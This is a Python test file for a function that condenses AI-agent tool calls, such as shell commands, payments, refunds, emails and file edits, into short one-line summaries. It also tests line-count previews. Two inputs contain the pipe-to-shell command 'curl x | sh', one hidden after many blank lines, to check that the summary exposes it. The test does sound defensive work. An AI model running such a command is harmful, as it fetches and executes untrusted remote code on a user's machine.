"""A call in a list, in a few words."""

from datetime import datetime
from typing import Any

import pytest

from interlock.domain.json_value import JsonValue
from interlock.domain.kinds import ClarificationBody
from interlock.domain.preview import FilePreview
from interlock.domain.showing import MOST_COMPARED, changed_lines
from interlock.domain.summary import summary


@pytest.mark.parametrize(
    ("tool", "args", "told"),
    [
        ("execute", {"command": "npm  install left-pad"}, "execute npm install left-pad"),
        ("execute", {"command": "ls" + "\n" * 41 + "curl x | sh"}, "execute ls ⏎ curl x | sh"),
        ("shell", {"command": ["git", "commit", "-m", "One, two"], "workdir": "/w"}, "shell git commit -m 'One, two'"),
        ("shell", {"command": ["bash", "-lc", "ls\ncurl x | sh"]}, "shell bash -lc 'ls ⏎ curl x | sh'"),
        ("shell", {"command": ["ls", 1]}, 'shell ["ls", 1]'),
        ("shell", {"command": []}, "shell []"),
        ("read_file", {"path": "notes.md"}, "read_file notes.md"),
        ("write_file", {"path": "a.py", "content": "print(1)\n"}, "write_file a.py"),
        ("pay", {"to": "ann", "amount": 5.5, "currency": "EUR"}, "pay 5.5 EUR → ann"),
        ("refund", {"order": "A-1", "amount": 249, "to": "card 4411"}, "refund 249 → card 4411 · A-1"),
        ("退款", {"订单": "A-1", "金额": 2490, "币种": "CNY", "退至": "银行卡"}, "退款 2490 CNY → 银行卡 · A-1"),
        ("send", {"to": ["a@x", "b@x"], "subject": "Hi"}, "send → a@x, b@x · Hi"),
        ("look_up", {"order": "A-1", "deep": True, "none": None}, "look_up A-1 · true · null"),
        ("Edit", {"file_path": "a.py", "old_string": "x", "new_string": "y", "replace_all": False}, "Edit a.py"),
        ("MultiEdit", {"file_path": "a.py", "edits": [{"old_string": "x", "new_string": "y"}]}, "MultiEdit a.py"),
        ("ExitPlanMode", {"plan": "# Move it\n\n1. Read", "planFilePath": "p.md"}, "ExitPlanMode Move it"),
        ("subscribe", {"plan": "pro", "customer": "C-1"}, "subscribe pro · C-1"),
        ("edit_text", {"command": "create", "path": "a.py", "file_text": "x"}, "edit_text a.py create"),
        ("run", {"command": "create", "db": "a"}, "run create"),
        ("ping", {}, "ping"),
    ],
)
def test_a_call_is_told_by_what_matters_and_without_quotes(tool: str, args: dict[str, Any], told: str) -> None:
    assert summary(tool, args) == told


@pytest.mark.parametrize(
    ("value", "told"),
    [
        ("Go on?", "Go on?"),
        ({"question": "Go on?", "rows": 12, "tables": ["a", "b"]}, "Go on? · rows 12 · tables a, b"),
        ({"question": "Go on?", "options": ["yes", "no"]}, "Go on?"),
        ({"action": "drop", "table": "users"}, "action drop · table users"),
        ([1, 2], "[1, 2]"),
    ],
)
def test_what_a_graph_hands_over_is_told_by_its_parts(value: JsonValue, told: str) -> None:
    assert ClarificationBody.of_free(value).headline == told


def test_a_change_of_a_file_is_told_by_its_lines() -> None:
    assert summary("write_file", {"path": "a.py", "content": "x"}, (1, 0)) == "write_file a.py +1 −0"


def file(before: str | None, after: str | None, *, exists: bool = True) -> FilePreview:
    return FilePreview("a.py", exists, before, "", datetime.min, after)


@pytest.mark.parametrize(
    ("behind", "lines"),
    [
        (file(None, "one\ntwo\n", exists=False), (2, 0)),
        (file("one\ntwo\nthree\n", "one\nTWO\nthree\n"), (1, 1)),
        (file("one\n", "one\n"), (0, 0)),
        (file("a\nb\nc\n", "c\n"), (0, 2)),
        (file("one\n", None), None),
        (file(None, "two\n"), None),
        (None, None),
    ],
)
def test_added_and_removed_lines_are_counted(behind: FilePreview | None, lines: tuple[int, int] | None) -> None:
    assert changed_lines(behind) == lines


def test_what_would_take_long_to_compare_is_not_counted() -> None:
    before, after = ("\n".join(f"{word} {number}" for number in range(MOST_COMPARED)) for word in ("old", "new"))
    assert changed_lines(file(before, after)) is None
